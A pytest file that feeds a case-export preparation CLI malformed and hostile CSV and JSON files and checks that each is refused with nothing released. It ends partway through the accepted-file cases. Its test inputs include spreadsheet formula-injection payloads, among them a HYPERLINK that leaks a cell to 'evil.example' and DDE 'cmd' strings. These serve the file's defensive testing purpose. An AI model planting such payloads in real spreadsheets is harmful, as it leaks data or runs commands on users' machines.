# SPDX-License-Identifier: Apache-2.0
"""A corpus of hostile export files, run through ``tipshare-node prepare`` as a data officer types it.

Every file is given to ``main(["prepare", ...])`` in a node home of its own. A refused file must exit 1 with an
``InputError`` paragraph that names the file and, where there is one, the row (or record, or line) and the column
(or field) and what was expected; no traceback; and the node home (config, key, ledger, outbox, receipts) must be
byte for byte what it was before: nothing released, no budget spent. The files the node must accept (other
encodings decoded right, mixed line endings, a formula in a column the node never reads, ...) are a control: they
must exit 0 and leave exactly one prepared release, which shows that the snapshot comparison sees a release.
"""

from __future__ import annotations

import codecs
import csv
import io
import json
import os
import re
import shutil
import stat
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path

import pytest

from node.cli import main
from node.inputs.readers import Limits
from tests.unit.node.fakehub import FakeHub
from tests.unit.node.nodekit import NOW, make_home

PERIOD = "2025-03"
HEADER = (
    "ext_PersonID",
    "ext_CaseID",
    "ext_RegistrationDate",
    "vic_TraffickingStatus",
    "prs_Gender",
    "prs_Birthdate",
    "prs_Citizenship",
    "vic_TypeOfExploitation",
    "hte_Type",
    "hte_Date",
    "hte_Country",
    "Notes",
)
ROWS = (
    ("P1", "C1", "2025-03-04", "ActualVictimOfTrafficking", "Female", "1990-05-01", "MD", "SexualExploitation",
     "Exploitation", "2025-01-10", "RO", "first call"),
    ("P2", "C2", "2025-03-11", "PossibleVictimOfTrafficking", "Male", "1985-02-02", "UA",
     "ForcedLabour;SexualExploitation", "Exploitation", "2025-02-01", "PL", "referred by police"),
    ("P3", "C2", "2025-03-12", "", "Female", "", "MD", "ForcedLabour", "Recruitment", "2024-12-24", "MD", ""),
)  # fmt: skip
CONTACTS_HEADER = ("ext_ContactorID", "ext_ContactDate", "ext_ContactChannel", "ext_ContactType", "Notes")
CONTACTS = (("K1", "2025-03-02", "phone", "Tip", ""), ("K2", "2025-03-05", "sms", "Tip", "asked about work abroad"))
#: A column mapping whose source values are not ASCII: they match only if the export was decoded right.
MAPPING = """
[values.prs_Gender]
"Жінка" = "Female"
"Чоловік" = "Male"
"Kobieta" = "Female"
"Mężczyzna" = "Male"
"""
UKRAINIAN = "Київ: дзвінок на гарячу лінію, повторне звернення матері"
POLISH = "Zgłoszenie z Łodzi: pracownik sezonowy, ciężka praca bez żadnych dokumentów"

FORMULAS = (
    '=HYPERLINK("http://evil.example/x?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
    "\u00a0@SUM(A1)",
    "=SUM(A1;B1)",
)
#: Columns of every kind (identifier, date, picklist, coded, multiselect coded) a formula is refused in.
FORMULA_COLUMNS = (
    "ext_PersonID",
    "ext_CaseID",
    "ext_RegistrationDate",
    "prs_Birthdate",
    "vic_TraffickingStatus",
    "hte_Type",
    "prs_Gender",
    "prs_Citizenship",
    "vic_TypeOfExploitation",
)


def table(header: Sequence[str], rows: Sequence[Sequence[str]], *, delimiter: str = ",", eol: str = "\r\n") -> str:
    """CSV text as a spreadsheet writes it (cells quoted where needed)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator=eol)
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue()


#: A Ukrainian export (Windows-1251 in the tests) with its own column names, and its mapping file.
UKRAINIAN_HEADER = (
    "Номер особи",
    "Номер справи",
    "Дата реєстрації",
    "Стать",
    "Громадянство",
    "Вид експлуатації",
    "Країна експлуатації",
    "Примітки",
)
UKRAINIAN_MAPPING = """
[columns]
"Номер особи" = "ext_PersonID"
"Номер справи" = "ext_CaseID"
"Дата реєстрації" = "ext_RegistrationDate"
"Стать" = "prs_Gender"
"Громадянство" = "prs_Citizenship"
"Вид експлуатації" = "vic_TypeOfExploitation"
"Країна експлуатації" = "vic_LocationOfExploitation"

[values.prs_Gender]
"жінка" = "Female"
"чоловіча" = "Male"

[values.prs_Citizenship]
"Україна" = "UA"
"Молдова" = "MD"

[values.vic_TypeOfExploitation]
"трудова" = "ForcedLabour"
"сексуальна" = "SexualExploitation"

[values.vic_LocationOfExploitation]
"Польща" = "PL"
"Німеччина" = "DE"
"""


UKRAINIAN_ROWS = (
    ("1", "C1", "2025-03-04", "жінка", "Україна", "сексуальна", "Польща", UKRAINIAN),
    ("2", "C2", "2025-03-11", "чоловіча", "Молдова", "трудова", "Німеччина", ""),
    ("3", "C2", "2025-03-12", "жінка", "Україна", "трудова", "Польща", "повторне звернення"),
)


def UKRAINIAN_CASES(*, drop: str | None = None, gender: str = "чоловіча") -> str:
    rows = [list(row) for row in UKRAINIAN_ROWS]
    rows[1][3] = gender
    keep = [i for i, name in enumerate(UKRAINIAN_HEADER) if name != drop]
    return table([UKRAINIAN_HEADER[i] for i in keep], [[row[i] for i in keep] for row in rows])


#: A Romanian export as Windows-1250 writes it: cedilla letters (ţ), where the mapping has comma-below ones (ț).
ROMANIAN_MAPPING = """
[columns]
"Nr. persoană" = "ext_PersonID"
"Data înregistrării" = "ext_RegistrationDate"
"Cetățenie" = "prs_Citizenship"
"Țara exploatării" = "vic_LocationOfExploitation"

[values.prs_Citizenship]
"România" = "RO"
"Republica Moldova" = "MD"

[values.vic_LocationOfExploitation]
"Italia" = "IT"
"Spania" = "ES"
"""
ROMANIAN_CASES = table(
    ("Nr. persoană", "Data înregistrării", "Cetăţenie", "Ţara exploatării", "Observaţii"),
    [
        ("1", "2025-03-04", "România", "Italia", "Înregistrată la Iaşi"),
        ("2", "2025-03-09", "Republica Moldova", "Spania", "Sunat din Bălţi, muncă agricolă"),
        ("3", "2025-03-21", "România", "Spania", ""),
    ],
)


def cases(**changes: str) -> str:
    """The valid cases export with cells of the second row (row 3 of the file) changed, by column name."""
    rows = [list(row) for row in ROWS]
    for column, value in changes.items():
        rows[1][HEADER.index(column)] = value
    return table(HEADER, rows)


def contacts(**changes: str) -> str:
    rows = [list(row) for row in CONTACTS]
    for column, value in changes.items():
        rows[0][CONTACTS_HEADER.index(column)] = value
    return table(CONTACTS_HEADER, rows)


def records(**changes: object) -> list[dict[str, object]]:
    """The valid cases export as JSON records, with fields of the second record changed."""
    result: list[dict[str, object]] = [
        {key: value for key, value in zip(HEADER, row, strict=True) if value} for row in ROWS
    ]
    result[1].update(changes)
    return result


def as_json(value: object) -> bytes:
    return json.dumps(value, ensure_ascii=False).encode()


VALID_CSV = cases().encode()


@dataclass(frozen=True)
class Export:
    """One run of ``prepare``: the files given and what the officer must be told."""

    id: str
    data: bytes
    expected: tuple[str, ...]
    name: str = "cases.csv"
    contacts: bytes | None = None
    contacts_name: str = "contacts.csv"
    args: tuple[str, ...] = ()
    mapping: str | None = None


def refused(id: str, data: bytes | str, *expected: str, **options: object) -> Export:
    """An export the node must refuse, saying each of ``expected`` (where, and what was expected there)."""
    assert expected, "a refused export must say where and why"
    raw = data.encode() if isinstance(data, str) else data
    return Export(id, raw, expected, **options)  # type: ignore[arg-type]


ZIP_XLSX = (
    b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00b\xee\x9dh^\x01\x00\x00\x90\x04\x00\x00\x13\x00[Content_Types].xml"
)
OLE_XLS = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
TRUNCATED = VALID_CSV[: VALID_CSV.index(b"P3") + 8]
QUOTED = cases(Notes='cut "short')
TRUNCATED_IN_QUOTES = QUOTED[: QUOTED.index("short") + 3]

HOSTILE: tuple[Export, ...] = (
    # ---- CSV structure
    refused("truncated mid-row", TRUNCATED, "cases.csv, row 4: expected 12 cells like the header; this row has 3"),
    refused(
        "truncated inside a quoted cell",
        TRUNCATED_IN_QUOTES,
        "cases.csv, row 3: expected well-formed CSV (unexpected end of data)",
    ),
    refused(
        "unbalanced quote opens and never closes",
        VALID_CSV.replace(b"P2,C2", b'P2,"C2'),
        "cases.csv, row 3: expected well-formed CSV (unexpected end of data)",
    ),
    refused(
        "text after a closing quote",
        VALID_CSV.replace(b"P2,C2,2025-03-11", b'P2,C2,"2025-03-11"x'),
        "cases.csv, row 3: expected well-formed CSV (',' expected after '\"')",
    ),
    refused(
        "stray quote inside a cell",
        VALID_CSV.replace(b"Male", b'Ma"le'),
        "cases.csv, row 3, column prs_Gender: 'Ma\"le' is not accepted",
    ),
    refused("a NUL byte", VALID_CSV.replace(b"referred", b"refer\x00red"), "cases.csv, row 3: expected text", "NUL"),
    refused(
        "ragged rows, too many and too few cells",
        cases() + "P4,C4,2025-03-20,,Female,,MD,,,,,,surplus\r\nP5,C5\r\n",
        "cases.csv, row 5: expected 12 cells like the header; this row has 13",
        "cases.csv, row 6: expected 12 cells like the header; this row has 2",
    ),
    refused(
        "duplicate header names",
        VALID_CSV.replace(b"prs_Citizenship", b"prs_Gender", 1),
        "cases.csv, row 1, column prs_Gender: expected each column name once in the header",
    ),
    refused(
        "a header name in the wrong case",
        VALID_CSV.replace(b"prs_Gender", b"PRS_gender", 1),
        "cases.csv, row 1, column PRS_gender: expected the field name spelled exactly prs_Gender",
    ),
    refused(
        "a second byte-order mark glued to the first column name",
        codecs.BOM_UTF8 * 2 + VALID_CSV,
        "expected the field name spelled exactly ext_PersonID",
    ),
    refused(
        "an ext_ column the node does not know",
        VALID_CSV.replace(b"Notes", b"ext_Notes", 1),
        "cases.csv, row 1, column ext_Notes: expected a known ext_ field name",
    ),
    refused("an empty file", b"", "cases.csv, row 1: expected a header row naming the columns; the file is empty"),
    refused("a byte-order mark and nothing else", codecs.BOM_UTF8, "cases.csv, row 1: expected a header row"),
    refused("blank lines only", b"\r\n\r\n \r\n", "cases.csv, row 1: expected a header row"),
    refused(
        "header only",
        table(HEADER, []),
        "cases.csv, row 2: expected at least one record; this export has none",
        "--allow-empty",
    ),
    refused("header and blank lines", table(HEADER, []) + "\r\n,,,\r\n\r\n", "this export has none"),
    refused(
        "a cell longer than the csv module's limit",
        cases(Notes="x" * 200_000),
        "cases.csv, row 3: expected well-formed CSV (field larger than field limit (131072))",
    ),
    refused(
        "a long cell in a coded column",
        cases(prs_Gender="Female" * 20_000),
        "cases.csv, row 3, column prs_Gender: 'FemaleFemale",
        "…' is not accepted",
    ),
    refused(
        "a long run of letters in a code-page export",
        cases(prs_Gender="Female" * 20_000, Notes=UKRAINIAN).encode("cp1251"),
        "cases.csv, row 3, column prs_Gender: 'FemaleFemale",
    ),
    refused(
        "an identifier longer than 200 characters",
        cases(ext_PersonID="P" * 201),
        "cases.csv, row 3, column ext_PersonID:",
        "expected a person identifier: at most 200 characters",
    ),
    refused(
        "a long line of many columns",
        table([*HEADER, *(f"extra{i}" for i in range(1200))], [[*ROWS[0], *("x" * 100 for _ in range(1200))]]),
        "cases.csv, row 1: expected at most 1,000 columns (the header has 1,212)",
    ),
    # ---- not text at all
    refused("an xlsx renamed .csv", ZIP_XLSX, "cases.csv: expected a CSV or JSON text export; this file is a ZIP"),
    refused("an xls renamed .csv", OLE_XLS, "cases.csv: expected a CSV or JSON text export", "Excel 97-2003"),
    refused("a PDF renamed .csv", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "this file is a PDF document"),
    refused("a gzip export renamed .csv", b"\x1f\x8b\x08\x00" + bytes(range(256)), "a gzip-compressed file"),
    refused(
        "random binary",
        bytes(range(1, 256)) * 4,
        "cases.csv, row 2: expected UTF-8, Windows-1251 or Windows-1250 text; byte 0x98 on line 2 is none",
    ),
    # ---- encodings
    refused(
        "invalid UTF-8 in a UTF-8 file",
        cases(Notes=UKRAINIAN).encode().replace("повторне".encode(), b"\xd0\xbf\xff\xd0"),
        "cases.csv, row 3: expected utf-8 text; byte 0xff on line 3 is not (the rest of the file is UTF-8",
    ),
    refused(
        "a byte no encoding of the region defines",
        VALID_CSV.replace(b"first call", b"first \x98 call"),
        "cases.csv, row 2: expected UTF-8, Windows-1251 or Windows-1250 text; byte 0x98 on line 2 is none of them",
    ),
    refused(
        "a code page the file does not tell",
        cases(Notes="Київ").encode("cp1251").replace(b"first call", "Łódź".encode("cp1250")),
        "expected UTF-8 text; this file is not UTF-8",
        "pass --encoding cp1251 or --encoding cp1250",
    ),
    refused("an encoding nobody knows", VALID_CSV, "a known text encoding", args=("--encoding", "klingon")),
    refused(
        "cp1250 declared as UTF-8",
        cases(Notes=POLISH).encode("cp1250"),
        "cases.csv, row 3: expected utf-8 text; byte 0xb3 on line 3 is not",
        args=("--encoding", "utf-8"),
    ),
    refused(
        "a UTF-8 byte-order mark with another encoding declared",
        codecs.BOM_UTF8 + VALID_CSV,
        "expected cp1251 text, but the file starts with a UTF-8 byte-order mark",
        args=("--encoding", "cp1251"),
    ),
    refused(
        "UTF-16 without a byte-order mark",
        cases().encode("utf-16-le"),
        "cases.csv, row 1: expected text; this file contains NUL characters",
        "pass --encoding utf-16-le",
    ),
    refused(
        "UTF-16 cut in the middle of a character",
        cases().encode("utf-16")[:-1],
        "expected utf-16 text; the file ends in the middle of a character",
    ),
    refused(
        "cp1251 decoded right (the value shows)",
        cases(prs_Gender="Жінка").encode("cp1251"),
        "cases.csv, row 3, column prs_Gender: 'Жінка' is not accepted",
    ),
    refused(
        "cp1250 decoded right (the value shows)",
        cases(prs_Gender="Mężczyzna", Notes=POLISH).encode("cp1250"),
        "cases.csv, row 3, column prs_Gender: 'Mężczyzna' is not accepted",
    ),
    refused(
        "UTF-16 decoded right (the value shows)",
        codecs.BOM_UTF16_BE + cases(prs_Gender="Чоловік").encode("utf-16-be"),
        "cases.csv, row 3, column prs_Gender: 'Чоловік' is not accepted",
    ),
    refused(
        "cp1251 declared as cp1250",
        cases(prs_Gender="Чоловік", Notes=UKRAINIAN).encode("cp1251"),
        "cases.csv: expected Windows-1250 (Central European) text, as the encoding given says",
        "should probably be cp1251",
        args=("--encoding", "cp1250"),
    ),
    refused(
        "cp1251 declared as cp1250 in the mapping file",
        cases(prs_Gender="Чоловік", Notes=UKRAINIAN).encode("cp1251"),
        "words look like Windows-1251 (Cyrillic)",
        mapping='[options]\nencoding = "cp1250"\n' + MAPPING,
    ),
    refused(
        "cp1250 declared as cp1251",
        cases(prs_Gender="Mężczyzna", Notes=POLISH).encode("cp1250"),
        "words look like Windows-1250 (Central European)",
        args=("--encoding", "cp1251"),
    ),
    # ---- values
    refused(
        "a registration date out of range",
        cases(ext_RegistrationDate="9999-12-31"),
        "cases.csv, row 3, column ext_RegistrationDate: '9999-12-31' is not accepted; expected a date YYYY-MM-DD",
    ),
    refused(
        "a birthdate out of range",
        cases(prs_Birthdate="0001-01-01"),
        "cases.csv, row 3, column prs_Birthdate: '0001-01-01' is not accepted",
    ),
    refused("February 30th", cases(ext_RegistrationDate="2025-02-30"), "column ext_RegistrationDate: '2025-02-30'"),
    refused("month 13", cases(hte_Date="2025-13-01"), "cases.csv, row 3, column hte_Date: '2025-13-01'"),
    refused("an Excel serial date", cases(ext_RegistrationDate="45720"), "column ext_RegistrationDate: '45720'"),
    refused("a local date format", cases(prs_Birthdate="02.02.1985"), "column prs_Birthdate: '02.02.1985'"),
    refused(
        "a person without a registration date",
        cases(ext_RegistrationDate=""),
        "cases.csv, row 3, column ext_RegistrationDate: expected a registration date",
    ),
    refused(
        "a person in two cases",
        table(HEADER, [ROWS[0], ROWS[1], (*ROWS[1][:1], "C9", *ROWS[1][2:])]),
        "cases.csv, row 4, column ext_CaseID: 'C9' is not accepted; expected one case per person",
    ),
    # ---- JSON
    refused(
        "JSON with a trailing comma",
        b'[{"ext_PersonID": "P1", "ext_RegistrationDate": "2025-03-04",}]',
        "cases.json: expected valid JSON (Expecting property name enclosed in double quotes at line 1, column 62)",
        name="cases.json",
    ),
    refused("a JSON scalar", b"42", "cases.json: expected a JSON list of records", name="cases.json"),
    refused("a JSON string", b'"cases"', "cases.json: expected a JSON list of records", name="cases.json"),
    refused("an empty JSON list", b"[]", "cases.json: expected at least one record", name="cases.json"),
    refused(
        "two record lists",
        as_json({"records": records(), "cases": records()}),
        "cases.json: expected a JSON list of records",
        name="cases.json",
    ),
    refused(
        "a nested object where a value belongs",
        as_json(records(prs_Gender={"value": "Male"})),
        "cases.json, record 2, field prs_Gender: expected a string, an integer, null, or a list of them",
        name="cases.json",
    ),
    refused(
        "an object inside a multiselect list",
        as_json(records(vic_TypeOfExploitation=["ForcedLabour", {"other": "x"}])),
        "cases.json, record 2, field vic_TypeOfExploitation: expected a string",
        name="cases.json",
    ),
    refused(
        "a duplicate key",
        as_json(records()).replace(b'"prs_Gender": "Male"', b'"prs_Gender": "Male", "prs_Gender": "Female"'),
        "cases.json, record 2, field prs_Gender: expected each key once per object",
        name="cases.json",
    ),
    refused(
        "1e400",
        as_json(records()).replace(b'"P2"', b"1e400"),
        "cases.json, record 2, field ext_PersonID: expected a string, an integer, null",
        name="cases.json",
    ),
    refused(
        "NaN",
        as_json(records()).replace(b'"1985-02-02"', b"NaN"),
        "cases.json, record 2, field prs_Birthdate: expected a string, an integer, null",
        name="cases.json",
    ),
    refused(
        "-Infinity and true",
        as_json(records()).replace(b'"UA"', b"-Infinity").replace(b'"Male"', b"true"),
        "cases.json, record 2, field prs_Citizenship: expected a string",
        "cases.json, record 2, field prs_Gender: expected a string",
        name="cases.json",
    ),
    refused(
        "an integer of 5000 digits",
        as_json(records()).replace(b'"P2"', b"9" * 5000),
        "cases.json, record 2, field ext_PersonID:",
        "at most 200 characters",
        name="cases.json",
    ),
    refused(
        "JSON nested 100000 deep",
        b"[" * 100_000 + b"]" * 100_000,
        "cases.json: expected JSON this reader can hold (it is nested too deeply)",
        name="cases.json",
    ),
    refused(
        "JSON Lines named .json",
        b"\n".join(as_json(record) for record in records()),
        "cases.json: expected valid JSON (Extra data at line 2, column 1). If it holds one object per line",
        name="cases.json",
    ),
    refused(
        "a JSON Lines line with a trailing comma",
        as_json(records()[0]) + b"\n" + as_json(records()[1])[:-1] + b",}\n" + as_json(records()[2]),
        "cases.jsonl, line 2: expected one JSON object on each line",
        name="cases.jsonl",
    ),
    refused(
        "a JSON Lines line holding a list",
        as_json(records()[0]) + b"\r\n\r\n" + as_json(list(records()[1])) + b"\r\n",
        "cases.jsonl, line 3: expected a JSON object",
        name="cases.jsonl",
    ),
    refused(
        "a formula in a JSON multiselect list",
        as_json(records(vic_TypeOfExploitation=["ForcedLabour", "=SUM(A1;B1)"])),
        "cases.json, record 2, field vic_TypeOfExploitation: '=SUM(A1;B1)' is not accepted",
        name="cases.json",
    ),
    # ---- checks of the whole export (issue 14): nothing spent on a wrong export
    refused(
        "a column the mapping names is missing from the export",
        UKRAINIAN_CASES(drop="Країна експлуатації").encode("cp1251"),
        'cases.csv, row 1: expected the column "Країна експлуатації" that mapping.toml maps to '
        "vic_LocationOfExploitation ([columns]); the export has no such column. Export it with that column, or delete "
        "the line from [columns] if your system does not record it",
        mapping=UKRAINIAN_MAPPING,
    ),
    refused(
        "a mapped header with a look-alike letter",
        UKRAINIAN_CASES().replace("Стать", "Cтать").encode("cp1251"),  # a Latin C typed for the Cyrillic С
        'cases.csv, row 1: expected the column "Стать" that mapping.toml maps to prs_Gender ([columns]); the export '
        "has no such column (its header \"Cтать\" looks the same but has Latin 'C' (U+0043) where 'Стать' has Cyrillic "
        "'С' (U+0421): correct one of the two)",
        mapping=UKRAINIAN_MAPPING,
    ),
    refused(
        "a mapped value with a Latin letter among Cyrillic ones",
        UKRAINIAN_CASES(gender="жінкa").encode("cp1251", errors="strict"),
        "cases.csv, row 3, column Стать (prs_Gender): 'жінкa' is not accepted; expected one of Female, Feminine, Male, "
        "Man, Masculine, NonConforming, NonSpecifiedUnknown, Trans/Transgender/NonConforming, Transgender/NonConforming"
        ", TransgenderFeminine, TransgenderMasculine, Unknown, Woman; did you mean 'жінка' (mapping.toml, "
        "[values.prs_Gender])? This value has Latin 'a' (U+0061) where 'жінка' has Cyrillic 'а' (U+0430)",
        "Correct the export, or its mapping file mapping.toml ([columns] for column names, [values.<field>] for "
        "values), and run prepare again; nothing was spent.",
        mapping=UKRAINIAN_MAPPING,
    ),
    refused(
        "an HTCDS value with a Cyrillic letter",
        cases(prs_Gender="Femаle"),  # Cyrillic а
        "cases.csv, row 3, column prs_Gender: 'Femаle' is not accepted; expected one of Female,",
        "; did you mean 'Female'? This value has Cyrillic 'а' (U+0430) where 'Female' has Latin 'a' (U+0061)",
    ),
    refused(
        "the wrong month: every person is registered in the next one",
        table(HEADER, [(*row[:2], "2025-04" + row[2][7:], *row[3:]) for row in ROWS]),
        "cases.csv: expected persons registered in 2025-03 (--period); none of its persons is: they were registered "
        "in 2025-04. Check --period and that this is the month's export; if 2025-03 really had nobody to count, pass "
        "--allow-empty",
        "Nothing was spent. Correct what is named above, or pass the option it names if the export is right",
    ),
    refused(
        "the wrong month with a late entry of the month asked",
        table(HEADER, [ROWS[0], *((f"Q{i}", f"D{i}", "2025-04-02", *ROWS[1][3:]) for i in range(9))]),
        "cases.csv: expected more of its persons registered in 2025-03 (--period); few were, and most were registered "
        "in 2025-04 (its persons fall in 2025-03, 2025-04). Check --period and that this is the month's export; if it "
        "really covers several months, pass --allow-other-months",
    ),
    refused(
        "contacts of another month",
        VALID_CSV,
        "contacts.csv: expected contacts made in 2025-03 (--period); none of its contacts is: they were made in "
        "2025-05.",
        contacts=table(CONTACTS_HEADER, [("K1", "2025-05-02", "phone", "Tip", "")]).encode(),
    ),
    refused(
        "no ext_PersonID: every row would count as a person",
        table(HEADER[1:], [row[1:] for row in ROWS]),
        "cases.csv: expected a person identifier column, ext_PersonID (or a column the mapping maps to it): without "
        "one every row counts as a person, so a person with several rows (one per hte_ event is the usual shape) "
        "would be counted several times and protected less than the release declares. Add the column to the export; "
        "or, if every row is a person of its own, pass --rows-are-persons (the release then declares the weaker unit "
        "of privacy record-month, and the hub shows it)",
    ),
    refused(
        "a dimension not recorded for more than four in five persons",
        table(HEADER, [(*row[:4], "", *row[5:]) for row in ROWS]),
        "cases.csv: expected a gender recorded (prs_Gender) for at least a fifth of the persons of 2025-03; more than "
        "four in five have none. Check that the column holds what its name or the mapping says and that the export "
        "filled it in; to release it as it is (unknown), pass --allow-unknown",
    ),
    refused(
        "a mapping that still holds a decision to make",
        UKRAINIAN_CASES().encode("cp1251"),
        'mapping.toml, [values.prs_Gender] чоловіча: expected a decision instead of "?" (written by '
        '`tipshare-node mapping init` where you must choose): a value prs_Gender accepts, a list of them, or "" (not '
        "recorded)",
        mapping=UKRAINIAN_MAPPING.replace('"чоловіча" = "Male"', '"чоловіча" = "?"'),
    ),
    # ---- the contacts file
    refused(
        "a contacts file with a header only",
        VALID_CSV,
        "contacts.csv, row 2: expected at least one record",
        contacts=table(CONTACTS_HEADER, []).encode(),
    ),
    refused(
        "a formula as contactor",
        VALID_CSV,
        "contacts.csv, row 2, column ext_ContactorID: '=HYPERLINK(\"http://x\")' is not accepted",
        contacts=contacts(ext_ContactorID='=HYPERLINK("http://x")').encode(),
    ),
    refused(
        "a contact date out of range",
        VALID_CSV,
        "contacts.csv, row 2, column ext_ContactDate: '1899-12-31' is not accepted",
        contacts=contacts(ext_ContactDate="1899-12-31").encode(),
    ),
    refused(
        "a binary contacts file",
        VALID_CSV,
        "contacts.csv: expected a CSV or JSON text export; this file is a ZIP",
        contacts=ZIP_XLSX,
    ),
)

FORMULA_CELLS: tuple[Export, ...] = tuple(
    refused(
        f"formula {FORMULAS.index(formula)} in {column}",
        cases(**{column: formula}),
        # the value as shown: stripped, cut at 39 characters (then "…"); [:-1] leaves the closing quote out
        f"cases.csv, row 3, column {column}: {formula.strip()[:39]!r}"[:-1],
        "is not accepted",
    )
    for formula in FORMULAS
    for column in FORMULA_COLUMNS
)


@dataclass(frozen=True)
class Run:
    status: int
    out: str
    err: str


class Desk:
    """A node home of its own (a copy of ``template``) and the officer's keyboard: ``prepare`` on files written
    into ``folder``."""

    def __init__(self, folder: Path, template: Path, capsys: pytest.CaptureFixture[str]) -> None:
        self.folder = folder
        self.home = folder / "home"
        self.hub = FakeHub()
        shutil.copytree(template, self.home)  # modes too (0700 directory, 0600 files)
        self.capsys = capsys

    def prepare(self, export: Export) -> Run:
        argv = ["--home", str(self.home), "prepare", "--period", PERIOD, str(self.write(export.name, export.data))]
        if export.contacts is not None:
            argv += ["--contacts", str(self.write(export.contacts_name, export.contacts))]
        if export.mapping is not None:
            argv += ["--mapping", str(self.write("mapping.toml", export.mapping.encode()))]
        return self.run(*argv, *export.args)

    def run(self, *argv: str) -> Run:
        self.capsys.readouterr()
        status = main(list(argv), http_client_factory=self.hub.client_factory(), clock=lambda: NOW, sleep=_no_sleep)
        out, err = self.capsys.readouterr()
        return Run(status, out, err)

    def write(self, name: str, data: bytes) -> Path:
        path = self.folder / name
        path.write_bytes(data)
        return path

    def releases(self) -> list[dict[str, object]]:
        run = self.run("--home", str(self.home), "status", "--json")
        assert run.status == 0, run.err
        releases: list[dict[str, object]] = json.loads(run.out)["releases"]
        return releases


def _no_sleep(seconds: float) -> None:
    raise AssertionError("prepare never waits")


def snapshot(root: Path) -> dict[str, tuple[int, bytes]]:
    """Every file and directory under ``root``: its mode and (for files) its bytes."""
    found: dict[str, tuple[int, bytes]] = {}
    for path in sorted(root.rglob("*")):
        mode = path.stat().st_mode
        found[str(path.relative_to(root))] = (mode, path.read_bytes() if stat.S_ISREG(mode) else b"")
    return found


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A node home as ``init`` leaves it (made once: every test works on a copy)."""
    root = tmp_path_factory.mktemp("template") / "home"
    make_home(root, FakeHub())
    return root


@pytest.fixture
def desk(tmp_path: Path, template: Path, capsys: pytest.CaptureFixture[str]) -> Desk:
    return Desk(tmp_path, template, capsys)


def assert_refused(desk: Desk, export: Export) -> Run:
    before = snapshot(desk.home)
    run = desk.prepare(export)
    assert run.status == 1, f"{export.id}: exit {run.status}\n{run.out}\n{run.err}"
    assert "Traceback" not in run.out + run.err
    assert run.err.startswith(("InputError: ", "MappingError: ")), run.err
    assert "nothing was released" in run.err
    for fragment in export.expected:
        assert fragment in run.err, f"{export.id}: {fragment!r} not in\n{run.err}"
    assert run.out == ""
    assert snapshot(desk.home) == before, f"{export.id}: the node home changed"
    return run


@pytest.mark.parametrize("export", HOSTILE, ids=lambda e: e.id)
def test_a_hostile_export_is_refused_and_nothing_is_released(desk: Desk, export: Export) -> None:
    assert_refused(desk, export)


@pytest.mark.parametrize("export", FORMULA_CELLS, ids=lambda e: e.id)
def test_a_formula_is_refused_in_every_kind_of_column(desk: Desk, export: Export) -> None:
    assert_refused(desk, export)


def test_a_file_over_the_size_limit_is_refused_before_it_is_read(desk: Desk) -> None:
    big = desk.folder / "cases.csv"
    with big.open("wb") as handle:  # sparse: the size is there, the disk blocks are not
        handle.write(VALID_CSV)
        handle.truncate(Limits().max_bytes + 1)
    before = snapshot(desk.home)
    run = desk.run("--home", str(desk.home), "prepare", "--period", PERIOD, str(big))
    assert run.status == 1
    assert f"cases.csv: expected a file of at most {Limits().max_bytes:,} bytes" in run.err
    assert f"(this one has {Limits().max_bytes + 1:,})" in run.err
    assert snapshot(desk.home) == before


def test_a_device_is_not_read(desk: Desk) -> None:
    device = Path(os.devnull)
    before = snapshot(desk.home)
    run = desk.run("--home", str(desk.home), "prepare", "--period", PERIOD, str(device))
    assert run.status == 1
    assert f"{device.name}: expected a regular file with the export" in run.err
    assert snapshot(desk.home) == before


def test_a_missing_file_or_a_folder_is_a_usage_error(desk: Desk) -> None:
    before = snapshot(desk.home)
    for path in (desk.folder / "no-such-export.csv", desk.folder):
        run = desk.run("--home", str(desk.home), "prepare", "--period", PERIOD, str(path))
        assert run.status == 2
        assert path.name in re.sub(r"[\s│]", "", run.err)  # the usage error's box wraps long paths
        assert "Traceback" not in run.err
    assert snapshot(desk.home) == before


def test_every_problem_of_a_broken_export_is_listed_at_once(desk: Desk) -> None:
    broken = table(
        HEADER,
        [
            ROWS[0],
            (*ROWS[1][:4], "=1+1", *ROWS[1][5:]),
            (*ROWS[2][:2], "2025-02-30", *ROWS[2][3:6], "Atlantis", *ROWS[2][7:]),
        ],
    )
    run = assert_refused(desk, refused("three problems", broken, "3 problems"))
    assert "cases.csv, row 3, column prs_Gender: '=1+1' is not accepted" in run.err
    assert "cases.csv, row 4, column ext_RegistrationDate: '2025-02-30' is not accepted" in run.err
    assert "cases.csv, row 4, column prs_Citizenship: 'Atlantis' is not accepted" in run.err


# ---------------------------------------------------------------- the control: what the node must accept

ACCEPTED: tuple[Export, ...] = (
    Export("UTF-8 with a byte-order mark", codecs.BOM_UTF8 + cases(prs_Gender="Чоловік").encode(), (), mapping=MAPPING),
    Export(
        "UTF-16 LE with a byte-order mark, tab-separated (Excel's Unicode text)",
        table(HEADER, [*ROWS[:1], [*ROWS[1][:4], "Чоловік", *ROWS[1][5:]]], delimiter="\t").encode("utf-16"),
        (),
        name="cases.txt",
        mapping=MAPPING,
    ),
    Export(
        "UTF-16 BE with a byte-order mark",
        codecs.BOM_UTF16_BE + cases(prs_Gender="Жінка", Notes=UKRAINIAN).encode("utf-16-be"),
        (),
        mapping=MAPPING,
    ),
    Export("cp1251", cases(prs_Gender="Чоловік", Notes=UKRAINIAN).encode("cp1251"), (), mapping=MAPPING),
    Export("cp1250", cases(prs_Gender="Mężczyzna", Notes=POLISH).encode("cp1250"), (), mapping=MAPPING),
    Export(
        "mixed line endings, semicolons and a quoted line break",
        table(HEADER, [ROWS[0], (*ROWS[1][:-1], "two\nlines; one cell"), ROWS[2]], delimiter=";")
        .encode()
        .replace(b"\r\n", b"\n", 2)
        .replace(b"\r\n", b"\r", 1),
        (),
    ),
    Export(
        "formulas in a column the node never reads, phone numbers as contactors",
        cases(Notes='=HYPERLINK("http://x")').encode(),
        (),
